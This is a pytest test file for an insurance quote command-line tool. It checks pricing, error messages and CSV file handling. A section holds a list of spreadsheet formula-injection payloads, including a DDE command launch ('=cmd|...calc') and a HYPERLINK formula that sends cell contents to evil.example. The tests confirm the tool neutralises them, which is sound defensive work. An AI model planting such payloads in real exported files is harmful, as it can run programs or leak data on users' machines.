"""``sonae quote``: the answer of the API on the command line, and a whole file of risks at once."""

from __future__ import annotations

import argparse
import csv
import json
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from sonae.apps.programmes.models import Programme
from sonae.apps.quotes import rate_file as rate_file_module
from sonae.config import quote_command
from tests import clock

pytestmark = pytest.mark.django_db

HEAD = "industry,annual_sales,plan,start_on"


@pytest.fixture(autouse=True)
def _fixed_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(quote_command, "now", clock.now)


def run(*arguments: str) -> int:
    parser = argparse.ArgumentParser()
    quote_command.add_arguments(parser)
    return quote_command.run(parser.parse_args(arguments))


def rate_file(folder: Path, text: str | bytes) -> tuple[int, list[dict[str, str]]]:
    """The exit code and the rows that came out."""
    source, out = folder / "risks.csv", folder / "premiums.csv"
    source.write_bytes(text if isinstance(text, bytes) else text.encode())
    code = run("--file", str(source), "--out", str(out))
    with out.open(encoding="utf-8", newline="") as answers:
        return code, list(csv.DictReader(answers))


@pytest.mark.parametrize(
    ("industry", "sales", "start"),
    [
        ("other_services", 5_000_000, "2026-12-01"),
        ("professional", 48_000_000, "2027-03-01"),
        ("information", 99_999_999, "2027-11-01"),
        ("retail", 100_000_000, None),
        ("medical", 0, "2026-06-01"),
    ],
)
@pytest.mark.parametrize("language", ["ja", "en"])
def test_the_json_is_that_of_the_api(
    client: Client,
    programme: Programme,
    capsys: pytest.CaptureFixture[str],
    industry: str,
    sales: int,
    start: str | None,
    language: str,
) -> None:
    options = ["--start", start] if start else []
    assert run("--industry", industry, "--sales", str(sales), *options, "--json", "--language", language) == 0
    facts = {"industry": industry, "annual_sales": sales, "start_on": start}
    answer = client.post(f"/api/v1/quotes?language={language}", json.dumps(facts), content_type="application/json")
    assert json.loads(capsys.readouterr().out) == answer.json()


def test_a_person_reads_it_in_words(programme: Programme, capsys: pytest.CaptureFixture[str]) -> None:
    assert run("--industry", "other_services", "--sales", "5000000", "--start", "2026-12-01") == 0
    said = capsys.readouterr().out
    for figure in ("64,940円", "5,412円", "1億円", "1,000万円"):
        assert figure in said
    assert run("--industry", "bank", "--sales", "1", "--language", "en") == 0
    assert "0120-008588" in capsys.readouterr().out


def test_every_wrong_input_is_one_line_with_field_given_and_expected(
    programme: Programme, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run("--industry", "medicl", "--sales", "５００万", "--start", "2026-12-24", "--language", "en") == 2
    captured = capsys.readouterr()
    lines = captured.err.strip().splitlines()
    assert captured.out == ""
    assert len(lines) == 3
    for option, given in (("--industry", "medicl"), ("--sales", "５００万"), ("--start", "2026-12-24")):
        line = next(line for line in lines if option in line)
        assert f"given '{given}'" in line
        assert "expected" in line or 'Did you mean "medical"' in line


def test_without_facts_it_says_which_are_missing(programme: Programme, capsys: pytest.CaptureFixture[str]) -> None:
    assert run() == 2
    assert capsys.readouterr().err.count("nothing given") == 2


def test_before_anything_is_published_it_says_so_in_one_line(db: None, capsys: pytest.CaptureFixture[str]) -> None:
    assert run("--industry", "retail", "--sales", "1") == 2
    assert len(capsys.readouterr().err.strip().splitlines()) == 1


def test_a_file_is_rated_row_by_row_like_the_single_answers(programme: Programme, tmp_path: Path) -> None:
    rows = [
        "other_services,5000000,P100,2026-12-01",
        "other_services,5000001,P100,2026-12-01",
        "construction,30000000,P100,2026-12-01",
        "professional,48000000,P300,2027-03-01",
        "information,99999999,P500,2027-11-01",
        "manufacturing,1,P100,2025-12-01",
        "medical,100000000,P100,2026-12-01",
    ]
    code, answers = rate_file(tmp_path, "\n".join([HEAD, *rows]) + "\n")
    assert code == 0
    premiums = [(row["annual_premium"], row["term_premium"], row["monthly_equivalent"]) for row in answers]
    assert premiums == [
        ("64940", "64940", "5412"),
        ("72080", "72080", "6007"),
        ("64940", "64940", "5412"),
        ("192840", "144630", "16070"),
        ("343290", "28610", "28608"),
        ("64940", "64940", "5412"),
        ("", "", ""),
    ]
    assert [row["decision"] for row in answers] == ["accepted"] * 6 + ["referred"]
    assert answers[-1]["reasons"] == "SALES_LIMIT;MEDICAL"
    assert [",".join(row[name] for name in HEAD.split(",")) for row in answers] == rows


def test_a_bad_row_is_told_with_its_line_and_the_rest_goes_on(
    programme: Programme, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        "retail,5000000,P100,2026-12-01",
        "",
        "=cmd|' /C calc'!A0,5000000,P100,2026-12-01",
        "retail,５００万,P999,2026-12-02",
        '"re\ntail",1,P100,2026-12-01',
        "retail",
        "retail,10000000000001,P100,2026-12-01",
        "retail,5000000,P500,2026-12-01",
    ]
    code, answers = rate_file(tmp_path, "\r\n".join([HEAD, *rows]))
    assert code == 1
    assert [row["decision"] for row in answers] == ["accepted", *["invalid"] * 5, "accepted"]
    assert answers[1]["industry"].startswith("'=")
    lines = [line.removeprefix(str(tmp_path / "risks.csv:")) for line in capsys.readouterr().err.splitlines()]
    assert [int(line.split(":")[0]) for line in lines] == [4, 5, 7, 8, 9]
    for said in ("annual_sales: given '５００万'", "plan: given 'P999'", "start_on: given '2026-12-02'"):
        assert said in lines[1]


@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
def test_a_byte_order_mark_and_another_order_of_columns_are_read(
    programme: Programme, tmp_path: Path, mark: bytes
) -> None:
    code, answers = rate_file(tmp_path, mark + b"plan,start_on,annual_sales,industry\nP100,2026-12-01,5000000,retail\n")
    assert code == 0
    assert answers[0]["annual_premium"] == "66240"
    assert next(iter(answers[0])) == "industry"


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\n",
        b"a,b\n1,2\n",
        b"industry,annual_sales,plan\nretail,1,P100\n",
        HEAD.encode() + b"\n\x93\xfa\x96{,1,P100,2026-12-01\n",
    ],
)
def test_a_file_that_is_no_list_of_risks_leaves_nothing_behind(
    programme: Programme, tmp_path: Path, content: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    source, out = tmp_path / "risks.csv", tmp_path / "premiums.csv"
    source.write_bytes(content)
    out.write_text("yesterday's")
    assert run("--file", str(source), "--out", str(out)) == 2
    assert out.read_text() == "yesterday's"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["premiums.csv", "risks.csv"]
    assert len(capsys.readouterr().err.strip().splitlines()) == 1


@pytest.mark.parametrize("options", [["--file", "nowhere.csv", "--out", "out.csv"], ["--file", "nowhere.csv"]])
def test_a_file_that_is_not_there_is_told_in_one_line(
    programme: Programme,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    options: list[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    assert run(*options) == 2
    assert len(capsys.readouterr().err.strip().splitlines()) == 1
    assert list(tmp_path.iterdir()) == []


def test_a_large_file_is_answered_row_by_row_across_the_pieces(programme: Programme, tmp_path: Path) -> None:
    kinds: list[Any] = ["retail", "professional", "information", "construction", "medical"]
    rows = (
        f"{kinds[n % 5]},{n * 991 % 120_000_000},P{(100, 300, 500)[n % 3]},2027-{n % 11 + 1:02d}-01"
        for n in range(100_000)
    )
    text = "\n".join([HEAD, *rows]) + "\n"
    code, answers = rate_file(tmp_path, text)
    assert code == 0
    assert len(answers) == 100_000


# --- F19: what somebody wrote into a cell is no formula in the answer

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line feed": "\n=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(A1)",
    "another program": "=cmd|' /C calc'!A0",
    "a link that carries off": '=HYPERLINK("https://evil.example?x="&A1,"見る")',
    "behind blanks": " \u3000\u00a0=1+1",
    "behind quotes": "\"'=1+1",
    "behind a mark that nobody sees": "\ufeff=1+1",
}
CELLS = HEAD.split(",")


def rate_cells(folder: Path, cells: dict[str, str]) -> dict[str, str]:
    with (folder / "typed.csv").open("w", encoding="utf-8", newline="") as typed:
        writer = csv.writer(typed, quoting=csv.QUOTE_ALL)
        writer.writerows([CELLS, [cells[name] for name in CELLS]])
    _, answers = rate_file(folder, (folder / "typed.csv").read_bytes())
    assert len(answers) == 1
    return answers[0]


@pytest.mark.parametrize("column", CELLS)
@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS)
def test_what_stands_in_a_cell_never_becomes_a_formula(
    programme: Programme, tmp_path: Path, column: str, payload: str
) -> None:
    good = dict(zip(CELLS, ("retail", "5000000", "P100", "2026-12-01"), strict=True))
    answer = rate_cells(tmp_path, good | {column: payload})
    assert answer[column] == f"'{payload}"
    assert [answer[name] for name in CELLS if name != column] == [good[name] for name in CELLS if name != column]
    assert answer["decision"] == "invalid"
    again = rate_cells(tmp_path, {name: answer[name] for name in CELLS})
    assert again == answer


@pytest.mark.parametrize("number", ["-5000000", "-0.5", "+5000000", "5000000.00", "0"])
def test_a_number_stays_a_number_whatever_its_sign(programme: Programme, tmp_path: Path, number: str) -> None:
    cells = {"industry": "nowhere", "annual_sales": number, "plan": number, "start_on": number}
    answer = rate_cells(tmp_path, cells)
    assert {name: answer[name] for name in CELLS} == cells
    assert rate_cells(tmp_path, {name: answer[name] for name in CELLS}) == answer


@pytest.mark.parametrize(
    "text", ["'", "''", "'retail", "'-5", "''=1", "'\t5", "'\n", '"x"', "a=b", "a\rb", "a\r\n=b", "x,=1"]
)
def test_what_was_typed_comes_back_as_it_was(programme: Programme, tmp_path: Path, text: str) -> None:
    cells = {"industry": text, "annual_sales": "1", "plan": "P100", "start_on": "2026-12-01"}
    answer = rate_cells(tmp_path, cells)
    assert answer["industry"] in {text, f"'{text}"}
    assert rate_cells(tmp_path, {name: answer[name] for name in CELLS}) == answer


def test_without_the_mark_a_cell_would_be_a_formula(
    programme: Programme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rate_file_module, "_harmless", lambda text: text)
    cells = {"industry": "=1+1", "annual_sales": "1", "plan": "P100", "start_on": "2026-12-01"}
    assert rate_cells(tmp_path, cells)["industry"] == "=1+1"
